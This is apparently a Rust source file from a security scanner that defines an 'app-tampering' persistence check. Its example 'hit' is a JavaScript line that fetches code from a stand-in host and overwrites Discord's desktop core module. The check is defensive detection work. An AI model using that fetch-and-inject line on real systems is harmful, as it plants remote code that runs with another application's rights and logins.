//! A program that changes the code of another one.

use crate::check::{Check, Context, threats};
use crate::rule::Match;
use crate::value::severity::Severity;
use crate::value::verdict::Action;

/// The check.
pub const CHECK: Check = Check {
    id: "app-tampering",
    category: "persistence",
    severity: Severity::High,
    action: Action::Confirm,
    why: "Code that is written into another program runs with its rights, sees its logins and stays after an uninstall.",
    help: "Use the settings or extensions that the program offers.",
    hit: "const file = process.env.LOCALAPPDATA + '/Discord/modules/discord_desktop_core/index.js';\nfetch('https://in.example.net/code.js').then((answer) => answer.text()).then((code) => fs.writeFileSync(file, code));",
    miss: "const file = process.env.LOCALAPPDATA + '/Notes/settings.json';\nfetch('https://in.example.net/settings.json').then((answer) => answer.text()).then((text) => fs.writeFileSync(file, text));",
    run,
};

fn run(context: &Context<'_>) -> Vec<Match> {
    threats(context)
}
